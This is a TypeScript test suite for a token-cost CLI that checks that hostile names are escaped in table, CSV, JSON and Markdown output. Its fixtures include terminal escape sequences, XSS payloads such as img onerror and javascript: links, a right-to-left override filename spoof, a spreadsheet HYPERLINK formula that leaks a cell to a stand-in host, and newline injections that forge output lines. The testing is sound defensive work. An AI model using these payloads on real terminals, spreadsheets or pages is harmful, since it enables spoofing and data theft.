import { test, describe } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import bundled from '../../pricing/pricing.json';
import { markdownText, terminalSafe } from '../../src/core/format/terminalText';
import { csvCell } from '../../src/core/report';
import { printableName } from '../../src/cli/files';

const root = join(__dirname, '..', '..', '..');
const cli = join(root, 'dist', 'cli.js');
const prompt = join(root, 'test', 'fixtures', 'prompt-en.txt');

// Retitles the terminal, clears the screen (7-bit and C1 CSI), returns to the line start, leaves a heading.
const HOSTILE_NAME = 'Evil\u001b]0;pwned\u0007 \u009b2J\u001b[2J\rover\n## injected <img src=x onerror=alert(1)> [click](javascript:alert(1))';
const model = bundled.models.find((m) => m.id === 'openai/gpt-4o')!;
const overlay = {
  version: 1,
  vendors: [{ ...bundled.vendors.find((v) => v.id === 'openai')!, id: 'evil', name: 'Evil\u001b[31m Corp\r\u0085' }],
  models: [{ ...model, id: 'evil/model', vendor: 'evil', name: HOSTILE_NAME }],
};
const pricing = join(mkdtempSync(join(tmpdir(), 'token-spend-escape-')), 'evil.json');
writeFileSync(pricing, JSON.stringify(overlay));

function run(...args: string[]) {
  const r = spawnSync(process.execPath, [cli, prompt, '--pricing', pricing, '--model', 'evil/model', '--vendors', 'evil,openai', ...args], {
    encoding: 'utf8',
    env: { ...process.env, LANG: 'C', LC_ALL: '' },
  });
  return { code: r.status, out: r.stdout, err: r.stderr };
}

/** Control characters a terminal acts on: C0 but tab and LF, a CR not ending a line, DEL, C1. */
// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]|\r(?!\n)/;

describe('names from a pricing file never reach the terminal raw (issue 13, item 10)', () => {
  for (const format of [[], ['--markdown'], ['--csv'], ['--json']]) {
    test(`stdout and stderr ${format.join(' ') || 'table'}`, () => {
      const r = run(...format);
      assert.equal(r.code, 0, r.err);
      assert.ok(r.out.includes('Evil'), 'the model is in the output');
      assert.doesNotMatch(r.out, RAW_CONTROL);
      assert.doesNotMatch(r.err, RAW_CONTROL);
    });
  }

  test('--json keeps the name exactly (escapes decode to the same text)', () => {
    const json = JSON.parse(run('--json').out);
    assert.ok(JSON.stringify(json).includes(JSON.stringify(HOSTILE_NAME).slice(1, -1)));
  });

  test('--markdown: the name stays in its heading and row; no HTML, no link', () => {
    const md = run('--markdown').out;
    assert.ok(!md.split('\n').some((l) => l.startsWith('## injected')), 'no heading from the name');
    assert.doesNotMatch(md, /(^|[^\\])<img/m, 'no unescaped HTML');
    assert.doesNotMatch(md, /(^|[^\\])\]\(javascript:/m, 'no link');
    assert.match(md, /^## .*Evil.*\\#\\# injected \\<img src=x onerror=alert\(1\)\\> \\\[click\\\]\(javascript:alert\(1\)\)/m);
  });

  test('an unknown model quoted in an error', () => {
    const r = spawnSync(process.execPath, [cli, prompt, '--model', 'gpt\u001b]0;x\u0007'], { encoding: 'utf8' });
    assert.equal(r.status, 1);
    assert.match(r.stderr, /gpt\\u001b\]0;x\\u0007/);
    assert.doesNotMatch(r.stderr, RAW_CONTROL);
  });

  test('terminalSafe keeps CRLF, tab and text; markdownText turns line breaks into spaces', () => {
    assert.equal(terminalSafe('a\tb\r\nc\rd\u009b'), 'a\tb\r\nc\\u000dd\\u009b');
    assert.equal(markdownText('a\r\nb\u2028c_d'), 'a b c\\_d');
  });
});

describe('file names and cells a tester builds to spoof the terminal or a spreadsheet', () => {
  const dir = mkdtempSync(join(tmpdir(), 'token-spend-names-'));
  // Shows as "reportexe.md" with the override acting; and a formula a spreadsheet would run.
  const rlo = 'report\u202Edm.exe';
  const formula = '=HYPERLINK("x.test?"&A1,"x").md';
  writeFileSync(join(dir, rlo), 'hello');
  writeFileSync(join(dir, formula), 'hello');
  const runFiles = (...args: string[]) =>
    spawnSync(process.execPath, [cli, '--models', 'openai/gpt-4o', ...args], { cwd: dir, encoding: 'utf8', env: { ...process.env, LANG: 'C', LC_ALL: '' } });

  test('a right-to-left override in a file name is shown as \\u202e in the table, CSV and JSON (before: sent raw)', () => {
    for (const format of [[], ['--csv'], ['--json'], ['--markdown']]) {
      const r = runFiles(rlo, formula, ...format);
      assert.equal(r.status, 0, r.stderr);
      assert.ok(!r.stdout.includes('\u202E'), `raw U+202E in ${format.join() || 'table'}`);
      // In Markdown the backslash itself is escaped, so the rendered text reads report\u202edm.exe.
      assert.ok(r.stdout.includes(format[0] === '--markdown' ? 'report\\\\u202edm.exe' : 'report\\u202edm.exe'), format.join() || 'table');
    }
    // JSON stays valid and decodes to the real name.
    assert.deepEqual(
      JSON.parse(runFiles(rlo, formula, '--json').stdout).map((e: { file: string }) => e.file),
      [rlo, formula],
    );
  });

  test('terminalSafe and printableName escape bidirectional controls, and leave Arabic, Hebrew and Chinese alone', () => {
    assert.equal(terminalSafe('a\u202Eb\u2066c\u2069d\u200Fe\u061C'), 'a\\u202eb\\u2066c\\u2069d\\u200fe\\u061c');
    assert.equal(terminalSafe('مرحبا שלום 你好'), 'مرحبا שלום 你好');
    assert.equal(printableName('x\u202Ey\nz'), 'x\\u202ey\\u000az');
  });

  test('--csv: a file name starting with = (or after spaces, or full-width ＝) gets an apostrophe; numbers stay numbers', () => {
    const csv = runFiles(formula, rlo, '--csv').stdout;
    const cells = csv
      .split('\r\n')
      .slice(1, -1)
      .map((l) => l.slice(0, l.indexOf(',openai/')));
    assert.ok(cells.length >= 2);
    assert.ok(
      cells.filter((c) => c.includes('HYPERLINK')).every((c) => c.startsWith(`"'`) || c.startsWith(`'`)),
      cells.join('\n'),
    );
    assert.equal(csvCell(' =1+1'), "' =1+1");
    assert.equal(csvCell('\n=1+1'), `"'\n=1+1"`);
    assert.equal(csvCell('＝1+1'), "'＝1+1");
    assert.equal(csvCell('\u3000@SUM(A1)'), "'\u3000@SUM(A1)");
    assert.equal(csvCell('-x'), "'-x");
    assert.equal(csvCell(-0.5), '-0.5');
    assert.equal(csvCell('a=b'), 'a=b');
    assert.equal(csvCell('openai/gpt-4o'), 'openai/gpt-4o');
  });
});

describe('a newline in a file, folder or flag value never starts a forged line', () => {
  const plain = { encoding: 'utf8' as const, env: { ...process.env, LANG: 'C', LC_ALL: '' } };
  const forged = 'GitHub Copilot  1 file  0  $0.00';

  test('token-spend context: an instruction file under a folder whose name holds a newline and a fake row (before: the row was printed as a row)', () => {
    const dir = mkdtempSync(join(tmpdir(), 'token-spend-nl-'));
    const sub = join(dir, `x\n${forged}`);
    mkdirSync(sub);
    writeFileSync(join(sub, 'GEMINI.md'), '# hi');
    writeFileSync(join(dir, 'AGENTS.md'), '# root');
    const r = spawnSync(process.execPath, [cli, 'context', dir], plain);
    assert.equal(r.status, 0, r.stderr);
    assert.ok(!r.stdout.split('\n').some((l) => l.startsWith(forged)), r.stdout);
    assert.ok(r.stdout.includes(`x\\u000a${forged}/GEMINI.md`));
  });

  test('a missing file, a folder given to context, --model and --output values: quoted on their one line', () => {
    const missing = spawnSync(process.execPath, [cli, `no\n${forged}`], plain);
    assert.equal(missing.stderr, `token-spend: cannot read no\\u000a${forged}: no such file\n`);
    const folder = spawnSync(process.execPath, [cli, 'context', `no\n${forged}`], plain);
    assert.equal(folder.stderr, `token-spend context: no\\u000a${forged} is not a folder\n`);
    const model = spawnSync(process.execPath, [cli, prompt, '--model', `gpt\n${forged}`], plain);
    assert.match(model.stderr, /^token-spend: unknown model "gpt\\n/);
    assert.equal(model.stderr.split('\n').length, 2);
    const output = spawnSync(process.execPath, [cli, prompt, '--output', `1\n${forged}`], plain);
    assert.equal(output.stderr.split('\n')[0], `token-spend: --output expects a whole number of tokens from 0 to 10,000,000, got "1\\u000a${forged}"`);
  });

  test('--markdown over several files: a file named like HTML or a link stays literal in its heading (before: raw <img onerror>)', () => {
    const dir = mkdtempSync(join(tmpdir(), 'token-spend-mdname-'));
    writeFileSync(join(dir, '<img src=x onerror=alert(1)>.md'), 'hi');
    writeFileSync(join(dir, 'a](javascript:alert(1)).md'), 'hi');
    const r = spawnSync(process.execPath, [cli, '--markdown', '--models', 'openai/gpt-4o', '<img src=x onerror=alert(1)>.md', 'a](javascript:alert(1)).md'], {
      ...plain,
      cwd: dir,
    });
    assert.equal(r.status, 0, r.stderr);
    const headings = r.stdout.split('\n').filter((l) => l.startsWith('## ') && l.includes('.md'));
    assert.deepEqual(headings, ['## \\<img src=x onerror=alert(1)\\>.md', '## a\\](javascript:alert(1)).md']);
  });
});
